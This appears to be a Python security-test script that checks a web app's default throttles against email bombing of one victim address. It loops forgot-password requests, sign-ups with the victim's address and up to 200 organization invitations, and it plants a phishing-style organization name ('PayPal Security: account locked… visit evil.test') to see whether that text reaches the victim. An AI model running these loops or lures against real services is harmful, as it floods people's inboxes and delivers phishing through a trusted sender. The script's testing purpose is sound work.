"""Email bombing against one victim address, on a server with the DEFAULT throttles (BASE, DATA):
forgot-password, sign-up with the victim's (existing) address, resend verification, invitations."""
import os, re, sys, time, uuid, email as emaillib, requests
from lib12 import *
victim = os.environ.get("VICTIM", "victim@target.test")
def to_victim():
    n = 0
    for f in eml_files():
        m = emaillib.message_from_bytes(open(f, "rb").read())
        if victim in (m["To"] or ""):
            n += 1
    return n
def subjects():
    c = {}
    for f in eml_files():
        m = emaillib.message_from_bytes(open(f, "rb").read())
        if victim in (m["To"] or ""):
            c[m["Subject"]] = c.get(m["Subject"], 0) + 1
    return c
# the attacker: a fresh, never verified account, organization named as they like
att_email = f"ceo-{uuid.uuid4().hex[:4]}@paypal-security.test"
s = requests.Session(); r = s.get(BASE + "/signup")
r = s.post(BASE + "/signup", data={"csrf_token": csrf(r.text), "email": att_email, "password": PW, "organization": "PayPal Security: account locked, call +1-555-0100 or visit evil.test"}, allow_redirects=False)
print("attacker sign-up:", r.status_code)
# victim has an account
s = requests.Session(); r = s.get(BASE + "/signup")
r = s.post(BASE + "/signup", data={"csrf_token": csrf(r.text), "email": victim, "password": PW, "organization": "Victim Co"}, allow_redirects=False)
print("victim sign-up:", r.status_code); time.sleep(2); base0 = to_victim(); print("mails to victim so far:", base0, subjects())
# 1. forgot password x 30
codes = []
for i in range(30):
    s = requests.Session(); t = csrf(s.get(BASE + "/forgot-password").text)
    codes.append(s.post(BASE + "/forgot-password", data={"csrf_token": t, "email": victim}, allow_redirects=False).status_code)
print("forgot-password x30 statuses:", {c: codes.count(c) for c in set(codes)})
# 2. sign-up with the victim's address x 30 (one IP)
codes = []
for i in range(30):
    s = requests.Session(); t = csrf(s.get(BASE + "/signup").text)
    codes.append(s.post(BASE + "/signup", data={"csrf_token": t, "email": victim, "password": "whatever password 123", "organization": "x"}, allow_redirects=False).status_code)
print("sign-up with victim's address x30 statuses:", {c: codes.count(c) for c in set(codes)})
time.sleep(4); print("mails to victim after 1+2:", to_victim() - base0, subjects())
# 3. invitations: an attacker signs up from ANOTHER ip? No: same IP is throttled for sign-up now; use an account made earlier by the CLI
att = login(att_email); org = orgs_of(att)[0][0]
print("attacker email verified?", "verify" in get(att, f"/dashboard/orgs/{org}").text.lower())
tok = token_of(att)
t0 = time.time(); codes = []
N = int(os.environ.get("NINV", "200"))
for i in range(N):
    codes.append(post(att, f"/dashboard/orgs/{org}/invitations", {"csrf_token": tok, "email": victim, "role": "VIEWER"}).status_code)
print(f"invitations to the victim x{N} in {time.time()-t0:.1f}s statuses:", {c: codes.count(c) for c in set(codes)})
time.sleep(8); print("mails to victim after 3:", to_victim() - base0, subjects())
last = [f for f in eml_files() if victim in (emaillib.message_from_bytes(open(f,'rb').read())["To"] or "")][-1]
m = emaillib.message_from_bytes(open(last, "rb").read())
print("one invitation as received:\nSubject:", m["Subject"], "\nFrom:", m["From"])
for part in m.walk():
    if part.get_content_type() == "text/plain": print(part.get_payload(decode=True).decode())
